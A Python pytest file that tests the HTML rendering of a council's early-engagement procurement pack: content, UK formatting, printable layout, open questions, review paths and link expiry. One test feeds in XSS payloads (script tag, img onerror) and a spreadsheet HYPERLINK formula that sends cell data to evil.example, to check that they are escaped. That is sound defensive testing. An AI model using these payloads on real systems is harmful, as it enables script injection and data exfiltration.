"""The early-engagement pack: what it shows, what it leaves open, and that nothing anyone
typed can become markup, a script or a link."""

from __future__ import annotations

import dataclasses
import datetime as dt
from html.parser import HTMLParser

import pytest

from bot.domain.model import (
    Budget,
    DigitalRequest,
    Driver,
    RequestDetails,
    Requester,
    RequestKind,
    Route,
    Score,
    Status,
)
from bot.domain.procurement import (
    CatalogueMatch,
    CatalogueOutcome,
    Engagement,
    ReviewPath,
    Stage,
)
from bot.journeys.intake.form import FIELDS as REQUEST_FIELDS
from bot.journeys.procurement import checklist_form
from bot.journeys.procurement.pack import (
    NOT_FOUND_PAGE,
    PackView,
    expired_page,
    link_works,
    open_questions,
    render_pack,
    review_path,
    version_of,
    why_the_board,
)

AT = dt.datetime(2026, 11, 25, 10, 0, tzinfo=dt.UTC)
DETAILS = RequestDetails(
    title="Case management for housing repairs",
    problem="Repairs are tracked in spreadsheets.\nNobody can see the whole picture.",
    affected_staff=40,
    affected_residents=12000,
    affected_businesses=None,
    directorate="Communities, Culture and Homes",
    kind=RequestKind.NEW_SYSTEM,
    involves_procurement=True,
    supplier="Repairs Ltd",
    contract_end=dt.date(2027, 3, 31),
    personal_data=True,
    existing_systems="Academy, SharePoint",
    user_research="Interviews with 8 repair officers.",
    sponsor="Sam Head, Head of Housing",
    budget=Budget.FROM_50K_TO_250K,
    needed_by=dt.date(2027, 6, 1),
    statutory_deadline=None,
    cash_saving_per_year=120000,
    hours_saved_per_year=3000,
    resident_impact="Residents see when their repair is booked.",
    drivers=(Driver.EFFICIENCY, Driver.SERVICE_DELIVERY),
)
REQUEST = DigitalRequest(
    reference="DR-2026-0042",
    details=DETAILS,
    requester=Requester("megan", "Megan Bowen", "megan"),
    score=Score(72, "2026.1", ()),
    route=Route("trb", "project", "It is new technology.", "new_technology"),
    status=Status.SUBMITTED,
    submitted_at=AT,
)
ANSWERS = {
    "requirements": "yes",
    "systems": "Academy, SharePoint",
    "data_flow": "Nightly file of repairs from Academy.",
    "personal_data": "true",
    "dpia": "yes",
    "hosting": "supplier_cloud",
    "certification": "yes",
    "accessibility": "yes",
    "exit_plan": "All records as CSV within 30 days.",
    "contract_value": "185000",
    "contract_start": "2027-04-01",
    "contract_end": "2030-03-31",
    "renewal_or_new": "new",
    "scope_changing": "",
    "service_owner": "Pat Lead",
}
ENGAGEMENT = Engagement(
    id="PE-0123456789ab",
    owner_id="megan",
    owner_name="Megan Bowen",
    need="track housing repairs and book contractors",
    renewal=False,
    system_name="",
    stage=Stage.READY,
    created_at=AT,
    updated_at=AT + dt.timedelta(days=2),
    reference="DR-2026-0042",
    matches=(
        CatalogueMatch("academy", "Academy", 3.2, ("Its capabilities include case management.",)),
        CatalogueMatch(
            "power-platform",
            "Power Platform",
            2.1,
            ("Its description mentions booking.", "It is a platform the council already owns."),
            platform=True,
        ),
    ),
    outcome=CatalogueOutcome.NONE_FIT,
    none_fit_reason="Academy has no contractor booking.",
    checklist=ANSWERS,
    path=ReviewPath.FULL,
    pack_token="x" * 32,
)


def view(
    engagement: Engagement = ENGAGEMENT,
    request: DigitalRequest | None = REQUEST,
    sample: bool = False,
    chosen: str = "",
) -> PackView:
    return PackView(
        engagement=engagement,
        request=request,
        board_name="Technical Review Board",
        process_name="Project (PMO)",
        chosen_name=chosen,
        sample=sample,
        light_renewals=True,
    )


class Page(HTMLParser):
    """What a browser would see: the elements, the text, and any scripts or links."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.headings: list[int] = []
        self.text: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs
        if len(tag) == 2 and tag[0] == "h" and tag[1].isdigit():
            self.headings.append(int(tag[1]))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parsed(html: str) -> Page:
    page = Page()
    page.feed(html)
    return page


def test_the_pack_has_the_request_the_catalogue_check_and_the_checklist() -> None:
    html = render_pack(view())
    text = " ".join(parsed(html).text)
    for expected in (
        "Early-engagement pack: Case management for housing repairs",
        "DR-2026-0042",
        "Megan Bowen",
        "Communities, Culture and Homes",
        "72 out of 100: high priority",
        "Technical Review Board",
        "Project (PMO)",
        "track housing repairs and book contractors",
        "Academy",
        "Its capabilities include case management.",
        "It is a platform the council already owns.",
        "none of these fit, because: Academy has no contractor booking.",
        "Nightly file of repairs from Academy.",
        "The supplier's cloud",
        "All records as CSV within 30 days.",
        "Pat Lead",
        "A new buy",
        "Procurement and the Technical Review Board review it",
        "It is a new buy.",
    ):
        assert expected in text, expected
    # Every answer to the request, with the form's own question.
    for spec in REQUEST_FIELDS.values():
        assert spec.label in text, spec.label
    for spec in checklist_form.FIELDS.values():
        if spec.name != "scope_changing":  # asked for renewals only
            assert spec.label in text, spec.label


def test_dates_and_money_are_written_the_uk_way() -> None:
    text = " ".join(parsed(render_pack(view())).text)
    for expected in ("£185,000", "1 April 2027", "31 March 2030", "£120,000", "27 November 2026"):
        assert expected in text, expected
    assert "2027-04-01" not in text


def test_the_page_is_a_clean_printable_document() -> None:
    html = render_pack(view())
    page = parsed(html)
    assert html.startswith("<!DOCTYPE html>")
    assert '<html lang="en-GB">' in html
    assert "@media print" in html and "size: A4" in html
    assert "script" not in page.tags and "<script" not in html
    assert page.headings[0] == 1 and page.headings.count(1) == 1
    for before, after in zip(page.headings, page.headings[1:], strict=False):
        assert after <= before + 1, "headings go down one level at a time"
    assert all(name != "href" and not name.startswith("on") for name, _ in page.attributes)
    # Each table's row headers say what they head.
    assert html.count('<th scope="row">') >= len(REQUEST_FIELDS)


def test_what_people_typed_is_shown_as_text_never_as_markup() -> None:
    script = '<script>alert("x")</script>'
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    details = dataclasses.replace(DETAILS, title=script, problem=formula)
    request = dataclasses.replace(REQUEST, details=details)
    engagement = dataclasses.replace(
        ENGAGEMENT,
        need='<img src=x onerror="alert(1)">',
        none_fit_reason="</td></tr></table><h1>Fake</h1>",
        checklist={**ANSWERS, "exit_plan": formula, "service_owner": "<b>Pat</b>"},
    )
    html = render_pack(view(engagement, request))
    page = parsed(html)
    assert "script" not in page.tags and "img" not in page.tags and "b" not in page.tags
    assert page.tags.count("h1") == 1
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in html
    text = " ".join(page.text)
    assert script in text and formula in text and "<b>Pat</b>" in text
    assert all(name not in ("href", "onerror", "src") for name, _ in page.attributes)


def test_open_questions_name_everything_still_to_settle() -> None:
    unsure = {
        **ANSWERS,
        "requirements": "no",
        "dpia": "not_sure",
        "hosting": "not_known",
        "certification": "no",
        "accessibility": "not_known",
        "contract_value": "",
        "data_flow": "",
    }
    found = open_questions(unsure, dataclasses.replace(DETAILS, sponsor=""))
    assert found == [
        "Requirements have not been gathered with the people who will use it.",
        "Nobody knows yet if a data protection impact assessment (DPIA) is needed.",
        "Where it will be hosted is not known yet.",
        "The supplier does not hold Cyber Essentials Plus or ISO 27001.",
        "Nobody knows yet if it meets WCAG 2.2 AA or has an accessibility statement.",
        "How information will move between the systems is not described yet.",
        "The contract value is not known yet.",
        "There is no named senior sponsor yet.",
    ]
    html = render_pack(view(dataclasses.replace(ENGAGEMENT, checklist=unsure)))
    for sentence in found[:-1]:
        assert sentence in html, sentence


def test_a_dpia_needed_is_open_and_no_dpia_with_personal_data_is_questioned() -> None:
    assert open_questions(ANSWERS, DETAILS) == [
        "A data protection impact assessment (DPIA) is needed. "
        "It must be done before the contract is signed."
    ]
    no_dpia = open_questions({**ANSWERS, "dpia": "no"}, DETAILS)
    assert no_dpia == [
        "It will hold personal data, but the checklist says no DPIA is needed. "
        "The data protection officer should agree this."
    ]
    settled = {**ANSWERS, "dpia": "no", "personal_data": "false", "requirements": "partly"}
    assert open_questions(settled, DETAILS) == [
        "Requirements have only partly been gathered with the people who will use it."
    ]


def test_a_pack_with_nothing_open_says_so() -> None:
    settled = {**ANSWERS, "dpia": "no", "personal_data": "false"}
    html = render_pack(view(dataclasses.replace(ENGAGEMENT, checklist=settled)))
    assert "There are no open questions." in html


@pytest.mark.parametrize(
    ("renewal", "scope", "light", "path"),
    [
        ("renewal", "false", True, ReviewPath.LIGHT),
        ("renewal", "false", False, ReviewPath.FULL),
        ("renewal", "true", True, ReviewPath.FULL),
        ("new", "", True, ReviewPath.FULL),
        ("new", "", False, ReviewPath.FULL),
    ],
)
def test_only_a_renewal_with_no_change_in_scope_can_take_the_lighter_path(
    renewal: str, scope: str, light: bool, path: ReviewPath
) -> None:
    answers = {**ANSWERS, "renewal_or_new": renewal, "scope_changing": scope}
    assert review_path(answers, light) is path


def test_why_the_board_sees_it_is_said_in_words() -> None:
    assert why_the_board(ANSWERS, True) == (
        "It is a new buy. The board checks all new technology before anything is bought. "
        "It must work with other systems: Academy, SharePoint."
    )
    renewal = {**ANSWERS, "renewal_or_new": "renewal", "systems": "none"}
    assert why_the_board({**renewal, "scope_changing": "true"}, True) == (
        "It is a renewal, and its scope is changing."
    )
    assert why_the_board({**renewal, "scope_changing": "false"}, False) == (
        "The council asks the board to look at every renewal."
    )


def test_a_light_renewal_pack_says_procurement_alone_reviews_it() -> None:
    answers = {**ANSWERS, "renewal_or_new": "renewal", "scope_changing": "false"}
    engagement = dataclasses.replace(
        ENGAGEMENT,
        renewal=True,
        system_name="Repairs Online",
        checklist=answers,
        path=ReviewPath.LIGHT,
    )
    text = " ".join(parsed(render_pack(view(engagement))).text)
    assert "Procurement reviews it." in text
    assert "Lighter review by Procurement" in text
    assert "Repairs Online" in text
    assert "Is the scope changing?" in text and "A renewal" in text


def test_sample_data_is_marked_and_a_chosen_system_is_named() -> None:
    chosen = dataclasses.replace(ENGAGEMENT, outcome=CatalogueOutcome.EXISTING)
    html = render_pack(view(chosen, sample=True, chosen="Academy"))
    assert "Sample data" in html
    assert "an existing system does the job: Academy" in html
    assert "Sample data" not in render_pack(view())


def test_a_pack_whose_request_cannot_be_read_still_renders() -> None:
    html = render_pack(view(request=None))
    assert "The request could not be read just now." in html
    assert "Megan Bowen" in html


def test_the_not_found_page_is_plain() -> None:
    page = parsed(NOT_FOUND_PAGE)
    assert "Page not found" in " ".join(page.text)
    assert "script" not in page.tags


def test_a_platform_is_said_to_be_one_once() -> None:
    text = " ".join(parsed(render_pack(view())).text)
    assert text.count("platform the council") == 1
    # A check saved before the search said so itself still says it, once.
    older = dataclasses.replace(ENGAGEMENT.matches[1], why=("Its description mentions booking.",))
    engagement = dataclasses.replace(ENGAGEMENT, matches=(ENGAGEMENT.matches[0], older))
    text = " ".join(parsed(render_pack(view(engagement))).text)
    assert text.count("It is a platform the council already owns.") == 1


def test_a_pack_link_works_for_its_days_from_when_the_pack_was_made() -> None:
    made = ENGAGEMENT.updated_at
    assert link_works(ENGAGEMENT, made, 90)
    assert link_works(ENGAGEMENT, made + dt.timedelta(days=90, seconds=-1), 90)
    assert not link_works(ENGAGEMENT, made + dt.timedelta(days=90), 90)
    assert not link_works(ENGAGEMENT, made + dt.timedelta(days=2), 1)
    assert not link_works(dataclasses.replace(ENGAGEMENT, pack_token=""), made, 90)


def test_the_expired_page_says_so_and_how_to_get_a_new_link() -> None:
    page = parsed(expired_page(90))
    text = " ".join(page.text)
    assert "This link has expired" in text
    assert "works for 90 days after the pack is made" in text
    assert "they type checklist, check their answers and press Make the pack" in text
    assert "script" not in page.tags and "Early-engagement pack:" not in text
    assert "works for 1 day after" in expired_page(1)


def test_a_pack_version_changes_with_its_answers_path_or_link_only() -> None:
    same = dataclasses.replace(ENGAGEMENT, updated_at=AT, version=7, checklist=dict(ANSWERS))
    assert version_of(same) == version_of(ENGAGEMENT)
    for changed in (
        dataclasses.replace(ENGAGEMENT, checklist={**ANSWERS, "dpia": "no"}),
        dataclasses.replace(ENGAGEMENT, path=ReviewPath.LIGHT),
        dataclasses.replace(ENGAGEMENT, pack_token="y" * 32),
    ):
        assert version_of(changed) != version_of(ENGAGEMENT)
